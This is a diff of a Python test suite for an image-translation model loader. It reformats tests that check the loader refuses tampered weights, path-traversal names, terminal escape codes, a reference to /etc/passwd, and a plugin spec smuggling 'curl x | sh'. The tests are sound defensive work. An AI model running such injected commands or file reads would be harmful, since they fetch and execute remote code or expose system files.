@@ -53,8 +53,11 @@ def test_a_model_is_called_after_its_folder_wherever_one_stands(model, monkeypat
     assert i2i.load(".").model.name == "emoji"
 
 
-@pytest.mark.parametrize("spoil", [lambda b: b[:-1], lambda b: b[:1000], lambda b: b[:-1] + bytes([b[-1] ^ 1])],
-                         ids=["cut short", "cut shorter", "a flipped bit"])
+@pytest.mark.parametrize(
+    "spoil",
+    [lambda b: b[:-1], lambda b: b[:1000], lambda b: b[:-1] + bytes([b[-1] ^ 1])],
+    ids=["cut short", "cut shorter", "a flipped bit"],
+)
 def test_weights_that_are_cut_or_tampered_with_are_refused(model, spoil):
     path = model / "model.safetensors"
     path.write_bytes(spoil(path.read_bytes()))
@@ -78,13 +81,24 @@ def test_files_that_are_missing(model):
     assert refused(model).startswith("the model MODEL is damaged: model.safetensors cannot be read (")
 
 
-@pytest.mark.parametrize(("name", "shown"), [
-    ("../../x", "'../../x'"), ("a/b", "'a/b'"), ("..\\x", "'..\\\\x'"), ("con\0", "'con\\x00'"),
-    ("\x1b[2J", "'\\x1b[2J'"), ("two\nlines", "'two\\nlines'"), ("", "''")])
+@pytest.mark.parametrize(
+    ("name", "shown"),
+    [
+        ("../../x", "'../../x'"),
+        ("a/b", "'a/b'"),
+        ("..\\x", "'..\\\\x'"),
+        ("con\0", "'con\\x00'"),
+        ("\x1b[2J", "'\\x1b[2J'"),
+        ("two\nlines", "'two\\nlines'"),
+        ("", "''"),
+    ],
+)
 def test_a_domain_cannot_lead_out_of_a_folder_or_command_a_terminal(model, name, shown):
     change(model, "domains", 1, to=name)
-    assert (f"domains.1: {shown} cannot be part of a file's name: it is empty or long, or has a slash or a control "
-            "character") in refused(model)
+    assert (
+        f"domains.1: {shown} cannot be part of a file's name: it is empty or long, or has a slash or a control "
+        "character"
+    ) in refused(model)
 
 
 @pytest.mark.parametrize("place", ["networks", "tensors"])
@@ -100,11 +114,19 @@ def test_targets_are_domains_and_each_is_there_once(model):
     assert "domains: it names flat twice" in refused(model)
 
 
-@pytest.mark.parametrize(("place", "to", "why"), [
-    (("image_size",), [10**9, 10**9], "image_size.0 should be less than or equal to 8192, not 1000000000"),
-    (("networks", "generator", "style_dim"), 10**11, "the weights of the model emoji do not fit its networks"),
-    (("networks", "generator", "style_dim"), 2**62, "its network generator cannot be built (Storage size calculation"),
-    (("networks", "generator", "style_dim"), 10**30, "its network generator cannot be built (")])
+@pytest.mark.parametrize(
+    ("place", "to", "why"),
+    [
+        (("image_size",), [10**9, 10**9], "image_size.0 should be less than or equal to 8192, not 1000000000"),
+        (("networks", "generator", "style_dim"), 10**11, "the weights of the model emoji do not fit its networks"),
+        (
+            ("networks", "generator", "style_dim"),
+            2**62,
+            "its network generator cannot be built (Storage size calculation",
+        ),
+        (("networks", "generator", "style_dim"), 10**30, "its network generator cannot be built ("),
+    ],
+)
 def test_sizes_that_no_memory_holds_are_refused_before_any_is_taken(model, place, to, why):
     change(model, *place, to=to)
     assert why in refused(model)
@@ -126,8 +148,10 @@ def test_messages_carry_nothing_that_a_terminal_or_a_shell_obeys(model, call):
     change(model, "networks", "generator", to={"use": "evil/g"})
     change(model, "plugins", to={"evil": "evil==1; curl x | sh \x1b[2J"})
     answer = call("translate", model, "photo.jpg")
-    assert (answer.code, answer.err) == (5, "the model emoji needs plugin evil, which is not installed; pip install "
-                                            "'evil==1; curl x | sh \\x1b[2J'\n")
+    assert (answer.code, answer.err) == (
+        5,
+        "the model emoji needs plugin evil, which is not installed; pip install 'evil==1; curl x | sh \\x1b[2J'\n",
+    )
 
 
 def test_names_are_text_in_a_card(model):
@@ -155,12 +179,22 @@ def test_a_model_names_no_file_outside_of_its_folder(model):
     assert refused(model) == "the model emoji reads /etc/passwd, which is no file of it"
 
 
-@pytest.mark.parametrize(("place", "value", "sentence"), [
-    (("networks", "generator", "use"), "os.system",
-     "MODEL/config.json:{line}:11: there is no network called os.system"),
-    (("networks", "generator", "max_chanels"), 8,
-     "MODEL/config.json:{line}:4: network stargan_v2/generator has no key max_chanels (did you mean max_channels?)"),
-])
+@pytest.mark.parametrize(
+    ("place", "value", "sentence"),
+    [
+        (
+            ("networks", "generator", "use"),
+            "os.system",
+            "MODEL/config.json:{line}:11: there is no network called os.system",
+        ),
+        (
+            ("networks", "generator", "max_chanels"),
+            8,
+            "MODEL/config.json:{line}:4: network stargan_v2/generator has no key max_chanels (did you mean "
+            "max_channels?)",
+        ),
+    ],
+)
 def test_what_no_plugin_has_is_told_with_its_line(model, place, value, sentence):
     change(model, *place, to=value)
     lines = (model / "config.json").read_text().splitlines()
@@ -171,8 +205,9 @@ def test_what_no_plugin_has_is_told_with_its_line(model, place, value, sentence)
 def test_a_config_of_something_else(model):
     change(model, "image_size", to="big")
     line = next(n for n, text in enumerate((model / "config.json").read_text().splitlines(), 1) if "image_size" in text)
-    assert refused(model) == (f"the model cannot be used. MODEL/config.json:{line}:16: image_size should be a list, "
-                              f"not 'big'")
+    assert refused(model) == (
+        f"the model cannot be used. MODEL/config.json:{line}:16: image_size should be a list, not 'big'"
+    )
     (model / "config.json").write_text("[1, 2]")
     assert refused(model) == "MODEL/config.json is no model's: it should be a mapping"
     (model / "config.json").write_text("{")
@@ -184,8 +219,10 @@ def test_a_config_of_something_else(model):
 def test_weights_of_other_networks_are_told_by_name(model):
     change(model, "networks", "mapping_network", "hidden_dim", to=32)
     message = refused(model)
-    assert message.startswith("the weights of the model emoji do not fit its networks. only in the networks: "
-                              "mapping_network: shared.0.bias [32]; ")
+    assert message.startswith(
+        "the weights of the model emoji do not fit its networks. only in the networks: "
+        "mapping_network: shared.0.bias [32]; "
+    )
     assert "only in the weights: mapping_network: shared.0.bias [16]; " in message
 
 
@@ -194,8 +231,9 @@ def test_a_model_of_a_plugin_that_is_not_installed_says_what_to_install(model, t
     change(model, "plugins", to={"stargan_v2": "i2i-gan-stargan-v2==0.1.0"})
     with pytest.raises(PluginError) as error:
         i2i.load(model, plugins=discover(tmp_path / "none.yaml"))
-    assert str(error.value) == ("the model emoji needs plugin stargan_v2, which is not installed; "
-                                "pip install i2i-gan-stargan-v2==0.1.0")
+    assert str(error.value) == (
+        "the model emoji needs plugin stargan_v2, which is not installed; pip install i2i-gan-stargan-v2==0.1.0"
+    )
 
 
 def test_paths_in_lists_are_files_of_the_model_too(model, tmp_path):
